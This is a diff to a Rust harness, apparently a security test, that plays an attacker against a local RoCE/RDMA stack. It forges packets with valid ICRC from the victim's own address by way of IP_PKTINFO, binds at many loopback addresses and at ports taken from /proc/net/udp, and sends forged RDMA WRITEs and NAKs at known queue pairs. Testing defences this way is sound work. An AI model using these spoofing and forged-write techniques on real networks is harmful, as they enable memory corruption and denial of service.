@@ -19,7 +19,7 @@ use socket2::{Domain, SockAddr, SockRef, Socket, Type};
 use std::fs::{self, Permissions};
 use std::io::{ErrorKind, Write};
 use std::mem::zeroed;
-use std::net::{Ipv4Addr, TcpListener, TcpStream, UdpSocket};
+use std::net::{Ipv4Addr, SocketAddrV4, TcpListener, TcpStream};
 use std::os::fd::{AsRawFd, OwnedFd, RawFd};
 use std::os::unix::fs::PermissionsExt;
 use std::os::unix::net::UnixDatagram;
@@ -353,17 +353,61 @@ fn send_descriptor(socket: &Socket, message: &[u8], fd: RawFd) -> bool {
     }
 }
 
-/// A socket that says it is the victim's peer, and the port that it really has.
+/// A socket that sends in the name of the victim's peer, and the port that it really has.
 struct Forger {
-    socket: UdpSocket,
+    socket: Socket,
     net: NetHeader,
 }
 
 impl Forger {
-    fn new() -> Self {
-        let socket = UdpSocket::bind((HERE, 0)).unwrap();
-        let (gid, src_port) = (Gid::from(HERE), socket.local_addr().unwrap().port());
-        Self { socket, net: NetHeader { src: gid, dst: gid, src_port, ..NetHeader::default() } }
+    /// Bound to `address`.
+    fn at(address: SocketAddrV4) -> std::io::Result<Self> {
+        let socket = Socket::new(Domain::IPV4, Type::DGRAM, None)?;
+        socket.set_reuse_port(true)?;
+        socket.bind(&address.into())?;
+        let src_port = socket.local_addr()?.as_socket().unwrap().port();
+        let gid = Gid::from(HERE);
+        Ok(Self { socket, net: NetHeader { src: gid, dst: gid, src_port, ..NetHeader::default() } })
+    }
+
+    /// At every place that an attacker can have: unused ports, the RoCE port of other addresses, and
+    /// the ports that the victim has, at other addresses.
+    fn everywhere() -> Vec<Self> {
+        let at = |last, port| Self::at(SocketAddrV4::new(Ipv4Addr::new(127, 0, 0, last), port));
+        let any = |port| Self::at(SocketAddrV4::new(Ipv4Addr::UNSPECIFIED, port));
+        let forgers = (0..32).map(|_| at(1, 0)).chain((2..18).map(|last| at(last, 4791))).chain([any(0)]);
+        // All addresses at once are left out for the RoCE port: where many sockets have a port, the kernel
+        // lets another user take it there, and then no process of the victim could start.
+        let others = udp_ports().into_iter().filter(|port| *port != 4791).flat_map(|port| [at(2, port), any(port)]);
+        forgers.chain(others).filter_map(Result::ok).collect()
+    }
+
+    /// Sends `bytes` from the victim's own address.
+    fn send_bytes(&self, bytes: &[u8]) {
+        let mut to = libc::sockaddr_in {
+            sin_family: libc::AF_INET as libc::sa_family_t,
+            sin_port: 4791u16.to_be(),
+            sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(HERE.octets()) },
+            sin_zero: [0; 8],
+        };
+        let mut iov = libc::iovec { iov_base: bytes.as_ptr().cast_mut().cast(), iov_len: bytes.len() };
+        let mut control = [0u64; 4];
+        // SAFETY: all-zero is valid; every pointer is to this frame, with the length that is there;
+        // room for one `in_pktinfo`.
+        unsafe {
+            let mut header: libc::msghdr = zeroed();
+            (header.msg_name, header.msg_namelen) = ((&raw mut to).cast(), size_of_val(&to) as u32);
+            (header.msg_iov, header.msg_iovlen) = (&raw mut iov, 1);
+            let len = size_of::<libc::in_pktinfo>() as u32;
+            (header.msg_control, header.msg_controllen) = (control.as_mut_ptr().cast(), libc::CMSG_SPACE(len) as usize);
+            let message = libc::CMSG_FIRSTHDR(&raw const header);
+            (*message).cmsg_level = libc::IPPROTO_IP;
+            (*message).cmsg_type = libc::IP_PKTINFO;
+            (*message).cmsg_len = libc::CMSG_LEN(len) as usize;
+            let source = libc::in_pktinfo { ipi_ifindex: 0, ipi_spec_dst: to.sin_addr, ipi_addr: to.sin_addr };
+            libc::CMSG_DATA(message).cast::<libc::in_pktinfo>().write_unaligned(source);
+            libc::sendmsg(self.socket.as_raw_fd(), &raw const header, libc::MSG_DONTWAIT);
+        }
     }
 
     /// Sends a packet with a correct ICRC and `len` bytes of payload.
@@ -373,8 +417,16 @@ impl Forger {
         let end = bytes.len() - icrc::LEN;
         header.emit(len, &mut bytes[..end]).unwrap().fill(0xee);
         icrc::seal(&self.net, &mut bytes);
-        let _ = self.socket.send_to(&bytes, (HERE, 4791));
+        self.send_bytes(&bytes);
     }
+}
+
+/// The ports of all UDP sockets of this network namespace.
+fn udp_ports() -> Vec<u16> {
+    let table =
+        fs::read_to_string("/proc/net/udp").unwrap() + &fs::read_to_string("/proc/net/udp6").unwrap_or_default();
+    let ports = table.lines().filter_map(|line| line.split_whitespace().nth(1)?.split_once(':'));
+    ports.filter_map(|(_, port)| u16::from_str_radix(port, 16).ok()).collect()
 }
 
 /// What the attacker knows of a pair: the queue pair that writes, and the one that is written to,
@@ -387,7 +439,7 @@ struct Known {
 }
 
 /// Sends WRITEs to memory of the victim whose address and key, queue pair and PSN are known, from
-/// many ports; how many.
+/// many addresses and ports; how many.
 fn forge(victim: &Known) -> String {
     let (mut forgers, start) = (Forgers::new(), Instant::now());
     while forgers.sent < 64 || start.elapsed() < Duration::from_secs(seconds()) {
@@ -404,7 +456,7 @@ struct Forgers {
 
 impl Forgers {
     fn new() -> Self {
-        Self { all: (0..64).map(|_| Forger::new()).collect(), sent: 0 }
+        Self { all: Forger::everywhere(), sent: 0 }
     }
 
     fn write(&mut self, victim: &Known) {
@@ -441,8 +493,9 @@ fn do_all(forgers: &mut Forgers, victims: &[Known]) -> String {
 /// times.
 fn forge_naks(qpn: u32) -> String {
     const PACKETS: u32 = MESSAGE as u32 / 4096;
-    let forger = Forger::new();
+    let forgers = Forger::everywhere();
     for psn in (FIRST_PSN..).take(PACKETS as usize) {
+        let forger = &forgers[psn as usize % forgers.len()];
         for code in [NakCode::InvalidRequest, NakCode::RemoteAccess, NakCode::RemoteOperation] {
             let aeth = Aeth { syndrome: Syndrome::Nak(code), msn: Msn::new(0) };
             forger.send(qpn, Psn::new(psn), Kind::RcResponse(Response::Ack(aeth)), 0);
